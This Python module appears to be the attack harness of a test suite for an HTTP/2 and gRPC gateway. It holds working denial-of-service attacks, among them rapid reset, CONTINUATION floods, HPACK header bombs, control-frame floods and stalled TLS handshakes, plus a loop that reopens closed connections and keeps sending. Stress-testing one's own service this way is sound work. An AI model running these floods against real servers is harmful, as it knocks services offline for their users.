"""Attacks that go on until they are stopped: what each connection sends, and a loop that sends it.

Knows frames and sockets, nothing of the gateway. A connection that the gateway ends is opened again at once.
"""

from __future__ import annotations

import contextlib
import itertools
import selectors
import socket
import ssl
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field

from hyperframe.frame import PingFrame, PriorityFrame, SettingsFrame, WindowUpdateFrame

from .wire import (
    ECHO,
    FLOOD,
    HOST,
    LARGE_SINK,
    PREFACE,
    SINK,
    acknowledge,
    block,
    data,
    headers_frame,
    message,
    open_rpc,
    raw_frame,
    request,
    reset,
    settings,
    split_frames,
    window_update,
)

LARGEST_WINDOW = 2**31 - 1
BEGIN = PREFACE + settings() + acknowledge()
NO_WINDOW = PREFACE + settings({SettingsFrame.INITIAL_WINDOW_SIZE: 0}) + acknowledge()
WIDE_WINDOW = (
    PREFACE
    + settings({SettingsFrame.INITIAL_WINDOW_SIZE: LARGEST_WINDOW})
    + acknowledge()
    + window_update(0, LARGEST_WINDOW - 65_535)
)
HEADERS, GOAWAY, CONTINUATION, UNKNOWN = 1, 7, 9, 0xBB
DEFAULT_WINDOW = 65_535
LARGEST_FRAME = 16_384
PREFIX_BYTES = 5
"""Of a gRPC message."""
TURN_S = 0.05
CHUNK_BYTES = 65_536
STREAM_IDS = range(1, 2**31, 2)

Chunks = Callable[[], Iterator[bytes]]
"""What one connection sends, piece by piece; where it ends, the connection is kept open."""


@dataclass(frozen=True, slots=True)
class Attack:
    chunks: Chunks
    connections: int = 1
    reads: bool = True
    tls: bool = False
    """On the port for TLS."""
    message_bytes: int = 0
    """Length of a message on stream 1, sent as fast as the gateway's windows allow; 0: there is none."""


def once(*parts: bytes) -> Chunks:
    return lambda: iter(parts)


def again(opening: bytes, repeated: bytes) -> Chunks:
    return lambda: itertools.chain((opening,), itertools.repeat(repeated * max(1, CHUNK_BYTES // len(repeated))))


def by_stream(make: Callable[[int], bytes], opening: bytes = BEGIN) -> Chunks:
    """`make`: what is sent for each stream, one after the other."""
    return lambda: itertools.chain((opening,), (make(stream) for stream in STREAM_IDS))


def floods(streams: int, opening: bytes) -> Chunks:
    """RPCs whose answers never end."""
    asked = b"".join(open_rpc(s, FLOOD) + data(s, message(), end=True) for s in range(1, 2 * streams, 2))
    return once(opening, asked)


def header_bombs(references: int) -> Chunks:
    """One byte on the wire stands for a header of 3,900 bytes; `references` bytes in each request."""
    filler = block(request(SINK)) + b"\x40\x06x-bomb" + b"\x7f" + _rest_of(3_900) + b"b" * 3_900
    bomb = block(request(SINK)) + bytes([0x80 | 62]) * references
    return lambda: itertools.chain(
        (BEGIN, headers_frame(1, filler)), (headers_frame(s, bomb) + reset(s) for s in range(3, 2**31, 2))
    )


def large_message(size_bytes: int) -> Attack:
    opening = once(BEGIN + open_rpc(1, LARGE_SINK) + data(1, message(b"", size_bytes)))
    return Attack(opening, message_bytes=size_bytes)


def _rest_of(length: int) -> bytes:
    """The bytes of an HPACK length after a full 7-bit prefix."""
    rest = length - 127
    return bytes([0x80 | rest & 0x7F, rest >> 7])


def client_hello() -> bytes:
    sent = ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), sent, server_hostname="abuse.test")
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    return sent.read()


_OPENING = block(request(ECHO))
_MALFORMED = block([*request(ECHO), ("content-length", "1")])

ATTACKS = {
    "replies that nobody reads": Attack(floods(300, WIDE_WINDOW), connections=10, reads=False),
    "replies without a window": Attack(floods(300, NO_WINDOW), connections=10),
    "a header block of 20 MB": Attack(
        again(
            BEGIN + raw_frame(HEADERS, 0, 1, block(request(SINK))), raw_frame(CONTINUATION, 0, 1, b"\0\1a\1b" * 3_000)
        )
    ),
    "one header of 20 MB": Attack(
        again(
            BEGIN + raw_frame(HEADERS, 0, 1, block(request(SINK)) + b"\x40\x01x\x7f\x80\xd0\xc4\x09"),
            raw_frame(CONTINUATION, 0, 1, b"v" * 16_000),
        )
    ),
    "CONTINUATION without end": Attack(
        again(BEGIN + raw_frame(HEADERS, 0, 1, block(request(SINK))), raw_frame(CONTINUATION, 0, 1, b""))
    ),
    "header bombs": Attack(header_bombs(15_000), connections=4),
    "header bombs below the limit": Attack(header_bombs(15), connections=4),
    "empty DATA": Attack(again(BEGIN + open_rpc(1, SINK), data(1, b""))),
    "DATA of one byte": Attack(again(BEGIN + open_rpc(1, SINK), data(1, b"\0"))),
    "one message of 1 GiB": large_message(1 << 30),
    "DATA beyond the windows": Attack(again(BEGIN + open_rpc(1, SINK), data(1, bytes(LARGEST_FRAME)))),
    "PING": Attack(again(BEGIN, PingFrame(0, b"flooding").serialize()), connections=4),
    "PING, unread": Attack(again(BEGIN, PingFrame(0, b"flooding").serialize()), connections=4, reads=False),
    "SETTINGS": Attack(again(BEGIN, settings({3: 100})), connections=4),
    "PRIORITY": Attack(again(BEGIN, PriorityFrame(1, depends_on=3, stream_weight=1).serialize()), connections=4),
    "WINDOW_UPDATE": Attack(again(BEGIN, window_update(0, 1)), connections=4),
    "WINDOW_UPDATE of a stream": Attack(again(BEGIN + open_rpc(1, SINK), window_update(1, 1)), connections=4),
    "RST_STREAM of no stream": Attack(again(BEGIN, reset(1)), connections=4),
    "GOAWAY": Attack(again(BEGIN, raw_frame(GOAWAY, 0, 0, bytes(8))), connections=4),
    "unknown frames": Attack(again(BEGIN, raw_frame(UNKNOWN, 0, 0, b"flooding")), connections=4),
    "rapid reset": Attack(by_stream(lambda s: headers_frame(s, _OPENING) + reset(s)), connections=4),
    "rapid reset, unread": Attack(
        by_stream(lambda s: headers_frame(s, _OPENING) + data(s, message(), end=True) + reset(s)),
        connections=4,
        reads=False,
    ),
    "requests that break HTTP/2": Attack(
        by_stream(lambda s: headers_frame(s, _MALFORMED) + data(s, message())), connections=4
    ),
    "half a preface": Attack(once(PREFACE[:10]), connections=500),
    "half a TLS hello": Attack(once(client_hello()[:100]), connections=500, tls=True),
    "TLS handshakes that go no further": Attack(once(client_hello()), connections=500, tls=True),
    "HTTP/1.1 without end": Attack(again(b"", b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"), connections=4),
    "HTTP/1.1, unread": Attack(again(b"", b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"), connections=4, reads=False),
}


@dataclass(slots=True)
class Connection:
    socket: socket.socket
    chunks: Iterator[bytes]
    rest: memoryview = field(default_factory=lambda: memoryview(b""))

    def send(self) -> int:
        """Send some more, and return how much; 0: there is no more."""
        while len(self.rest) < CHUNK_BYTES:
            more = self.more()
            if not more:
                break
            self.rest = memoryview(bytes(self.rest) + more)
        sent = self.socket.send(self.rest[:CHUNK_BYTES]) if self.rest else 0
        self.rest = self.rest[sent:]
        return sent

    def more(self) -> bytes:
        """What is to be sent next; empty: nothing for now."""
        return b"".join(itertools.islice(self.chunks, 64))

    def receive(self) -> bytes:
        """What has come; empty: the gateway closed the connection."""
        return self.socket.recv(1 << 18)


@dataclass(slots=True)
class Upload(Connection):
    """Sends the rest of a message on stream 1, no faster than the gateway opens its windows."""

    left_bytes: int = 0
    windows: dict[int, int] = field(
        default_factory=lambda: {0: DEFAULT_WINDOW - PREFIX_BYTES, 1: DEFAULT_WINDOW - PREFIX_BYTES}
    )
    received: bytes = b""
    """The part of a frame."""

    def more(self) -> bytes:
        if opening := Connection.more(self):
            return opening
        size = min(self.left_bytes, LARGEST_FRAME, *self.windows.values())
        if size <= 0:
            return b""
        self.left_bytes -= size
        for stream in self.windows:
            self.windows[stream] -= size
        return data(1, bytes(size), end=not self.left_bytes)

    def receive(self) -> bytes:
        came = Connection.receive(self)
        frames, self.received = split_frames(self.received + came)
        for frame in frames:
            if isinstance(frame, WindowUpdateFrame):
                self.windows[frame.stream_id] += frame.window_increment
            elif isinstance(frame, SettingsFrame):
                initial = frame.settings.get(SettingsFrame.INITIAL_WINDOW_SIZE, DEFAULT_WINDOW)
                self.windows[1] += initial - DEFAULT_WINDOW
        return came


@dataclass(slots=True)
class Attacker:
    """Runs an attack in a thread."""

    attack: Attack
    port: int
    opened: int = 0
    sent_bytes: int = 0
    stopped: threading.Event = field(default_factory=threading.Event)

    def run(self) -> None:
        with selectors.DefaultSelector() as selector:
            try:
                for _ in range(self.attack.connections):
                    self._open(selector)
                while not self.stopped.is_set():
                    for key, events in selector.select(TURN_S):
                        self._serve(selector, key.data, events)
            finally:
                for key in list(selector.get_map().values()):
                    key.data.socket.close()

    def _open(self, selector: selectors.BaseSelector) -> None:
        connected = socket.create_connection((HOST, self.port), 20)
        connected.setblocking(False)
        self.opened += 1
        selector.register(connected, selectors.EVENT_READ | selectors.EVENT_WRITE, self._connection(connected))

    def _connection(self, connected: socket.socket) -> Connection:
        chunks, message_bytes = self.attack.chunks(), self.attack.message_bytes
        return Upload(connected, chunks, left_bytes=message_bytes) if message_bytes else Connection(connected, chunks)

    def _send(self, connection: Connection) -> int:
        sent = connection.send()
        self.sent_bytes += sent
        return sent

    def _serve(self, selector: selectors.BaseSelector, connection: Connection, events: int) -> None:
        try:
            if events & selectors.EVENT_WRITE and not self._send(connection):
                selector.modify(connection.socket, selectors.EVENT_READ, connection)
            if events & selectors.EVENT_READ:
                self._receive(selector, connection)
        except BlockingIOError:
            return
        except OSError:
            selector.unregister(connection.socket)
            connection.socket.close()
            self._open(selector)

    def _receive(self, selector: selectors.BaseSelector, connection: Connection) -> None:
        if not self.attack.reads:
            selector.modify(connection.socket, selectors.EVENT_WRITE, connection)
        elif not connection.receive():
            raise ConnectionError
        elif self.attack.message_bytes:  # its windows may be open again
            selector.modify(connection.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, connection)


@contextmanager
def attacking(attack: Attack, port: int, tls_port: int) -> Iterator[Attacker]:
    attacker = Attacker(attack, tls_port if attack.tls else port)
    thread = threading.Thread(target=attacker.run)
    thread.start()
    try:
        yield attacker
    finally:
        attacker.stopped.set()
        thread.join()
